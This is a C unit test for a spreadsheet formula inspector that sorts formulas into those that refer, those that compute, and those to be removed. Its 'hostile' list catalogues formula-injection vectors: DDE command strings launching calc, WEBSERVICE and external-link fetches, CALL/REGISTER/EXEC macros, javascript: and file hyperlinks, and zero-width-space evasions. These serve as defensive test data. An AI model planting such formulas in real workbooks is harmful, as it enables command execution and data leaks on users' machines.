/* SPDX-License-Identifier: Apache-2.0
 *
 * Formulas of workbooks: what computes stays, what fetches, sends or starts
 * something goes, and so does what is not understood.
 */
#include <glib.h>
#include <string.h>
#include <formula/formula.h>
#include "inspector/formula/formula.h"

#define GOES     SK_FORMULA_GOES
#define REFERS   SK_FORMULA_REFERS
#define COMPUTES SK_FORMULA_COMPUTES

typedef struct {
    const char *formula;
    SkFormulaVerdict verdict;
} Case;

static const Case cases[] = {
    { "", REFERS },
    { "A1", REFERS },
    { "=A1", REFERS },
    { "$A$1:B2", REFERS },
    { "A:A", REFERS },
    { "1:1", REFERS },
    { "$1:$5", REFERS },
    { "Sheet1!$A$1:$B$2", REFERS },
    { "'収支 (4月)'!A1", REFERS },
    { "'it''s'!A1", REFERS },
    { "収支!$A:$B,収支!$1:$2", REFERS },
    { "Sheet1:Sheet3!A1", REFERS },
    { "'Sheet 1:Sheet 3'!A1", REFERS },
    { "#REF!", REFERS },
    { "Sheet1!#REF!", REFERS },
    { "(A1,B2:C3)", REFERS },
    { "A1:C3 B2:D4", REFERS },
    { "税率", REFERS },
    { "_xlnm.Print_Area", REFERS },
    { "\"はい,いいえ\"", REFERS },
    { "\"a \"\"quoted\"\" word\"", REFERS },
    { "1.5E+3", REFERS },
    { ".5", REFERS },
    { "TRUE", REFERS },
    { "{1,-2;\"a\",#N/A}", REFERS },
    { "Table1[[#This Row],[単価]]", REFERS },
    { "Table1[[#Headers],[#Data],[a]:[b]]", REFERS },
    { "Table1['[x']]", REFERS },
    { "[@x]", REFERS },
    { "R[1]C[-1]", REFERS },
    { "RC[2]", REFERS },
    { "R1C1:R[2]C", REFERS },
    { "A1+B1", COMPUTES },
    { "-A1%", COMPUTES },
    { "A1#", COMPUTES },
    { "@A1:A3", COMPUTES },
    { "a&\"b\"<>c", COMPUTES },
    { "2^-1", COMPUTES },
    { "A1 >= 2", COMPUTES },
    { "SUM(A1:A3,,3)", COMPUTES },
    { "sum(a1)", COMPUTES },
    { "IF(A1=\"\",\"\",VLOOKUP(A1,表!$A:$C,3,FALSE))", COMPUTES },
    { "SUM( A1:A3 )\n", COMPUTES },
    { "NOW()", COMPUTES },
    { "IF(A1,,)", COMPUTES },
    { "SUMPRODUCT((A1:A3=1)*(B1:B3))", COMPUTES },
    { "_xlfn.XLOOKUP(A1,B:B,C:C)", COMPUTES },
    { "_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))", COMPUTES },
    { "_xlfn.ANCHORARRAY(A1)", COMPUTES },
    { "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)", COMPUTES },
    { "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))(A1)", COMPUTES },
    { "_xlfn.BYROW(A1:B2,_xleta.SUM)", COMPUTES },
    { "DATESTRING(A1)&NUMBERSTRING(A2,1)&YEN(A3)", COMPUTES },
    { "ASC(A1)&JIS(A2)&PHONETIC(A3)&DBCS(A4)", COMPUTES },
    { "TEXT(A1,\"[$-411]ggge年m月d日\")", COMPUTES },
    { "INDIRECT($A$1)", COMPUTES },
    { "CELL(\"row\",A1)", COMPUTES },
    { "SUBTOTAL(109,Table1[金額])", COMPUTES },
    { "SUM(Sheet1:Sheet3!A1)", COMPUTES },
    { "INDEX(A1:A3,2):A9", COMPUTES },
    { "HYPERLINK(\"https://www.example.jp/a?b=c\",\"見る\")", COMPUTES },
    { "HYPERLINK(\"#'シート 2'!A1\")", COMPUTES },
    { "HYPERLINK(\"mailto:a@example.jp\",A1)", COMPUTES },
};

/* what fetches, sends or starts something */
static const char *const hostile[] = {
    "cmd|'/c calc'!A0",
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "Excel|Sheet1!A1",
    "[1]Sheet1!A1",
    "[1]!name",
    "'[1]a b'!A1",
    "[1]!'item'",
    "SUM([1]Sheet1!A1)",
    "[book.xlsx]Sheet1!A1",
    "book.xlsx!name",
    "'book.xlsm'!name",
    "book.xlsm!macro()",
    "Sheet1!macro()",
    "Sheet1!macro (1)",
    "'\\\\host\\share\\[a.xlsx]b'!A1",
    "'http://host/[a.xlsx]b'!A1",
    "\\\\host\\share",
    "WEBSERVICE(\"http://a/\"&A1)",
    "_xlfn.WEBSERVICE(A1)",
    "_xlfn._xlws.WEBSERVICE(A1)",
    "WEBSERVICE (A1)",
    "WebService(A1)",
    "SUM(1,IF(TRUE,WEBSERVICE(A1)))",
    "_xlfn.FILTERXML(A1,B1)",
    "_xlfn.IMAGE(\"http://a/b.png\")",
    "RTD(\"a.b\",,\"c\")",
    "_xlfn.STOCKHISTORY(A1,B1)",
    "CUBEVALUE(\"c\",A1)",
    "_xlfn.TRANSLATE(A1,\"ja\")",
    "_xlfn._xlws.PY(0,1)",
    "CALL(\"a\",\"b\",\"c\")",
    "REGISTER.ID(\"a\",\"b\")",
    "REGISTER(\"a\",\"b\",\"c\")",
    "EVALUATE(A1)",
    "GET.WORKSPACE(1)",
    "GET.CELL(1,A1)",
    "EXEC(\"calc\")",
    "SQL.REQUEST(\"a\")",
    "INFO(\"directory\")",
    "CELL(\"filename\")",
    "CELL(A1)",
    "CELL(\"row\"&A1)",
    "_xlfn.BYROW(A1:B2,_xleta.WEBSERVICE)",
    "_xlfn.BYROW(A1:B2,_xlfn.WEBSERVICE)",
    "_xll.ADDIN(1)",
    "_xludf.NEW(1)",
    "ユーザー関数(A1)",
    "MyFunction(1)",
    "HYPERLINK(A1)",
    "HYPERLINK(\"http://a/\"&A1)",
    "HYPERLINK(\"file://host/a\")",
    "HYPERLINK(\"\\\\host\\a\")",
    "HYPERLINK(\"javascript:a\")",
    "HYPERLINK(\"C:\\a.exe\")",
    "HYPERLINK(\"[a.xlsx]b!A1\")",
    "HYPERLINK(\"#[a.xlsx]b!A1\")",
    "HYPERLINK(\"http\xE2\x80\x8B://a\")",
    "WEB\xE2\x80\x8BSERVICE(A1)",
};

/* what is not understood */
static const char *const broken[] = {
    "3(A1)", "A1:B2 3(C1)", "\"a\"(A1)", "A1:A2(B1)", "A1+",     "+",
    "=",     "(",           "(A1",       "A1)",       "SUM(A1",  "SUM(1+,2)",
    "()",    ",A1",         "\"a",       "'a",        "'a'",     "'a'b",
    "{1,2",  "{SUM(1)}",    "{A1}",      "Table1[a",  "A1 | B1", "A1`",
    "1A",    "\"a\"\"",     "!A1",       "A1!",       "A1\"b\"", "#WHAT!",
    "1e",
};

static gboolean
inspector_accepts(const char *formula)
{
    const SkSpan span = { (const uint8_t *)formula,
                          (const uint8_t *)formula + strlen(formula) };

    return sk_formula_is_ours(span, NULL);
}

static void
test_case(gconstpointer data)
{
    const Case *c = data;

    g_assert_cmpint(sk_formula_judge(c->formula, NULL), ==, c->verdict);
    g_assert_true(inspector_accepts(c->formula));
}

static void
test_hostile(gconstpointer data)
{
    g_assert_cmpint(sk_formula_judge(data, NULL), ==, GOES);
    g_assert_false(inspector_accepts(data));
}

static void
test_broken(gconstpointer data)
{
    g_assert_cmpint(sk_formula_judge(data, NULL), ==, GOES);
}

/* Sheets and names that do not leave with the workbook are not named. */
static void
test_scope(void)
{
    g_autoptr(GHashTable) sheets = g_hash_table_new(g_str_hash, g_str_equal);
    g_autoptr(GHashTable) names = g_hash_table_new(g_str_hash, g_str_equal);
    const SkFormulaScope scope = { NULL, sheets, names };

    g_hash_table_add(sheets, (gpointer) "表 1");
    g_hash_table_add(sheets, (gpointer) "it's");
    g_hash_table_add(names, (gpointer) "gone");
    g_assert_cmpint(sk_formula_judge_in("'表 1'!A1", &scope), ==, REFERS);
    g_assert_cmpint(sk_formula_judge_in("'IT''S'!A1", &scope), ==, REFERS);
    g_assert_cmpint(sk_formula_judge_in("'表 1:it''s'!A1", &scope), ==, REFERS);
    g_assert_cmpint(sk_formula_judge_in("'表 2'!A1", &scope), ==, GOES);
    g_assert_cmpint(sk_formula_judge_in("Macro1!A1", &scope), ==, GOES);
    g_assert_cmpint(sk_formula_judge_in("'表 1:Macro1'!A1", &scope), ==, GOES);
    g_assert_cmpint(sk_formula_judge_in("SUM(Gone)", &scope), ==, GOES);
    g_assert_cmpint(sk_formula_judge_in("SUM(other)", &scope), ==, COMPUTES);
}

/* Returns 1 in @n pairs of parentheses. */
static char *
nested(guint n)
{
    GString *text = g_string_new(NULL);

    for (guint i = 0; i < n; i++)
        g_string_append_c(text, '(');
    g_string_append_c(text, '1');
    for (guint i = 0; i < n; i++)
        g_string_append_c(text, ')');
    return g_string_free(text, FALSE);
}

/* Thousands of parentheses end by their bound, and long formulas by theirs. */
static void
test_bounds(void)
{
    g_autofree char *deep = nested(257), *most = nested(256);
    g_autoptr(GString) wide = g_string_new("1");

    g_assert_cmpint(sk_formula_judge(deep, NULL), ==, GOES);
    g_assert_cmpint(sk_formula_judge(most, NULL), ==, REFERS);
    for (guint i = 0; i < 20000; i++)
        g_string_append(wide, "+1");
    g_assert_cmpint(sk_formula_judge(wide->str, NULL), ==, GOES);
    g_string_truncate(wide, 8191);
    g_assert_cmpint(sk_formula_judge(wide->str, NULL), ==, COMPUTES);
}

static void
add_all(const char *what, const char *const *formulas, guint n,
        GTestDataFunc test)
{
    for (guint i = 0; i < n; i++) {
        g_autofree char *path = g_strdup_printf("/formula/%s/%03u", what, i);

        g_test_add_data_func(path, formulas[i], test);
    }
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
        g_autofree char *path = g_strdup_printf("/formula/stays/%03u", i);

        g_test_add_data_func(path, &cases[i], test_case);
    }
    add_all("hostile", hostile, G_N_ELEMENTS(hostile), test_hostile);
    add_all("broken", broken, G_N_ELEMENTS(broken), test_broken);
    g_test_add_func("/formula/scope", test_scope);
    g_test_add_func("/formula/bounds", test_bounds);
    return g_test_run();
}
